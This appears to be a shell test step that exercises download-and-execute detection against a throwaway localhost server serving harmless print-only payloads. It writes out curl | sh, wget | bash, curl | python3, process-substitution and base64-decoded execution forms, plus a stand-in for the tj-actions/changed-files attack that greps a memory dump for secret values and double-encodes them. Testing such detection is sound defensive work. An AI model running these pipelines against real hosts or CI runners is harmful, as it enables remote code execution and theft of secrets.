# Downloads run as code: a local HTTP server (127.0.0.1 only, started and
# stopped by this step) serves harmless "payloads" that only print a line.
T=$PWD/attack-tmp
mkdir -p "$T/www"
srv=
cleanup() { [ -n "$srv" ] && kill "$srv" 2>/dev/null; wait 2>/dev/null; rm -rf "$T"; }
trap cleanup EXIT
printf 'echo "stage2.sh: hello from a download"\n' > "$T/www/stage2.sh"
printf 'print("stage2.py: hello from a download")\n' > "$T/www/stage2.py"
# the tj-actions/changed-files stand-in: prints a fake masked-secret line, reads nothing
printf 'print(%s)\n' "'\"FAKE_TOKEN\":{\"value\":\"not-a-secret\",\"isSecret\":true}'" > "$T/www/memdump.py"
printf 'echo "stage2.b64: hello from a decoded download"\n' | base64 > "$T/www/stage2.b64"
python3 -u -m http.server --bind 127.0.0.1 --directory "$T/www" 0 > "$T/http.log" 2>&1 &
srv=$!
for _ in $(seq 1 50); do
	port=$(sed -n 's/.* port \([0-9][0-9]*\).*/\1/p' "$T/http.log" | head -n 1)
	[ -n "$port" ] && break
	sleep 0.1
done
[ -n "$port" ] || { echo "the local HTTP server did not start"; exit 1; }
U=http://127.0.0.1:$port
# 1. curl | sh, wget -O- | bash, curl | python3 (siblings of this step's shell)
curl -fsS "$U/stage2.sh" | sh
wget -qO- "$U/stage2.sh" | bash
curl -fsS "$U/stage2.py" | python3
# 2. the tj-actions/changed-files form (no sudo here: env stands in for it)
curl -sSf "$U/memdump.py" | env python3 | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u | base64 -w 0 | base64 -w 0; echo
# 3. one process: the pipeline inside a -c string, process and command substitution
bash -c "curl -fsS $U/stage2.sh | sh"
sh -c "sh -c \"\$(curl -fsS $U/stage2.sh)\""
bash <(curl -fsS "$U/stage2.sh")
# 4. downloaded and decoded
curl -fsS "$U/stage2.b64" | base64 -d | sh
